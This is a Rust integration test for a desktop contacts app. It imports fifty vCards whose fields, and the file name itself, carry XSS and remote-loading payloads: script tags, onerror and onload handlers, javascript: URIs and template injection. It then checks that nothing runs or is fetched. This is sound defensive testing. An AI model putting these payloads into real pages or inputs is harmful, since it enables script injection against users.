//! Cards with code in their values: all of it is shown as text.

use std::net::TcpListener;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use kith_tests::{App, Desk};

use crate::dropping::import;

/// Fifty known ways to make a page run code or load something. HOST is the address of a listener.
const PAYLOADS: [&str; 50] = [
    "<script>window.__ran=1</script>",
    "<script src=http://HOST/1.js></script>",
    "\"><script>window.__ran=1</script>",
    "</title><script>window.__ran=1</script>",
    "</textarea><script>window.__ran=1</script>",
    "</style><script>window.__ran=1</script>",
    "<img src=x onerror=window.__ran=1>",
    "<img src=http://HOST/2.png>",
    "\"><img src=x onerror=window.__ran=1>",
    "<img srcset='http://HOST/3.png 1x'>",
    "<svg onload=window.__ran=1>",
    "<svg><script>window.__ran=1</script></svg>",
    "<svg><image href=http://HOST/4.png></svg>",
    "<svg><animate onbegin=window.__ran=1 attributeName=x dur=1s>",
    "<body onload=window.__ran=1>",
    "<iframe src=javascript:parent.__ran=1>",
    "<iframe srcdoc='<script>parent.__ran=1</script>'>",
    "<iframe src=http://HOST/5>",
    "<object data=http://HOST/6>",
    "<embed src=http://HOST/7>",
    "<link rel=stylesheet href=http://HOST/8.css>",
    "<style>@import 'http://HOST/9.css';</style>",
    "<div style='background:url(http://HOST/10.png)'>",
    "<video src=http://HOST/11.mp4 onerror=window.__ran=1>",
    "<audio src=http://HOST/12.mp3 onerror=window.__ran=1>",
    "<video poster=http://HOST/13.png>",
    "<source src=x onerror=window.__ran=1>",
    "<input autofocus onfocus=window.__ran=1>",
    "<select autofocus onfocus=window.__ran=1>",
    "<details open ontoggle=window.__ran=1>",
    "<marquee onstart=window.__ran=1>",
    "<a href=javascript:window.__ran=1>click</a>",
    "javascript:window.__ran=1",
    "JaVaScRiPt:window.__ran=2",
    "data:text/html,<script>parent.__ran=1</script>",
    "vbscript:window.__ran=1",
    "http://HOST/14",
    "<form action=http://HOST/15><button autofocus>go</button></form>",
    "<meta http-equiv=refresh content='0;url=http://HOST/16'>",
    "<base href=http://HOST/>",
    "{@html '<img src=x onerror=window.__ran=1>'}",
    "{{constructor.constructor('window.__ran=1')()}}",
    "${window.__ran=1}",
    "<%= window.__ran=1 %>",
    "';window.__ran=1;//",
    "\";window.__ran=1;//",
    "`;window.__ran=1;//",
    "--><script>window.__ran=1</script><!--",
    "<math><mtext></mtext><script>window.__ran=1</script></math>",
    "<template><script>window.__ran=1</script></template><noscript><img src=x onerror=window.__ran=1></noscript>",
];

const WATCH: &str = "window.__refused = []; document.addEventListener('securitypolicyviolation', \
    (event) => window.__refused.push(event.violatedDirective + ' ' + event.blockedURI))";
const SEEN: &str = "return { ran: window.__ran ?? null, refused: window.__refused, \
    asked: performance.getEntriesByType('resource').map((entry) => entry.name) \
        .filter((name) => !/^(tauri:|ipc:|http:\\/\\/ipc\\.localhost|blob:)/.test(name)), \
    made: [...document.querySelectorAll('script:not([src]), iframe, object, embed, form[action], base, meta[http-equiv], \
        [onerror], [onload], [onfocus], [ontoggle], [src^=http], [href^=http], [href^=javascript]')].map((e) => e.outerHTML) }";

/// The text escaped for a card's value.
fn escaped(text: &str) -> String {
    text.replace('\\', "\\\\")
        .replace(';', "\\;")
        .replace(',', "\\,")
}

fn hostile(number: usize, payload: &str) -> String {
    let value = escaped(payload);
    format!(
        "BEGIN:VCARD\r\nVERSION:3.0\r\nUID:{number}{value}\r\nFN:{number:02} {value}\r\nN:{value};{number:02} {value};{value};{value};{value}\r\n\
         NICKNAME:{value}\r\nORG:{value};{value}\r\nTITLE:{value}\r\nROLE:{value}\r\nEMAIL;TYPE={number}:{value}\r\n\
         TEL:{value}\r\nADR:;;{value};{value};{value};{value};{value}\r\nURL:{payload}\r\nIMPP:{payload}\r\n\
         item1.EMAIL:x{number:02}@hostile.example\r\nitem1.X-ABLabel:{value}\r\nCATEGORIES:{value}\r\nNOTE:{value}\\n{value}\r\n\
         BDAY:{value}\r\nGEO:{value}\r\nPHOTO;VALUE=uri:http://HOST/photo{number}.png\r\nX-HOSTILE:{value}\r\nEND:VCARD\r\n"
    )
}

#[track_caller]
fn nothing_happened(app: &App, asked: &AtomicUsize, place: &str) {
    let seen = app.ask(SEEN, &[]);
    assert!(seen["ran"].is_null(), "{place}: a card's code ran");
    for what in ["refused", "asked", "made"] {
        assert_eq!(
            seen[what].as_array().map(Vec::len),
            Some(0),
            "{place}: {what}: {}",
            seen[what]
        );
    }
    assert_eq!(
        asked.load(Ordering::SeqCst),
        0,
        "{place}: something was requested"
    );
}

#[test]
fn fifty_hostile_cards_are_text_in_every_field() {
    let listener = TcpListener::bind(("127.0.0.1", 0)).unwrap();
    let host = listener.local_addr().unwrap().to_string();
    let asked = Arc::new(AtomicUsize::new(0));
    let count = Arc::clone(&asked);
    std::thread::spawn(move || {
        for _ in listener.incoming() {
            count.fetch_add(1, Ordering::SeqCst);
        }
    });

    let desk = Desk::new("hostile");
    let text: String = PAYLOADS
        .iter()
        .enumerate()
        .map(|(number, payload)| hostile(number, payload))
        .collect();
    let file = desk.file(
        "<img src=x onerror=window.__ran=1>.vcf",
        text.replace("HOST", &host),
    );
    let app = desk.start(&[]);
    app.ask(WATCH, &[]);
    app.drop_files(&[&file]);
    app.sees("50 cards: 50 new");
    app.picture("preview");
    for details in app.all("button", "Details for").iter().take(6) {
        app.ask("arguments[0].click()", &[details.script_value()]);
    }
    nothing_happened(&app, &asked, "preview");

    import(&app, "Import 50 people");
    nothing_happened(&app, &asked, "report");
    app.click("button", "Go to people");
    app.wait("the list is here", || !app.all("option", "").is_empty());
    for (number, payload) in PAYLOADS.iter().enumerate() {
        app.press("Control+f");
        app.fill(
            "textbox",
            "Search people",
            &format!("x{number:02}@hostile.example"),
        );
        app.wait("one card is found", || app.all("option", "").len() == 1);
        app.press("Enter");
        app.wait("its page is open", || {
            app.text()
                .contains(&format!("x{number:02}@hostile.example"))
                && app.has("link", "Notes")
        });
        app.click("link", "Notes");
        app.wait("its notes are shown", || app.has("heading", "Notes"));
        nothing_happened(&app, &asked, payload);
        if number % 10 == 0 {
            app.picture(&format!("person-{number:02}"));
        }
    }
    app.quit();
}
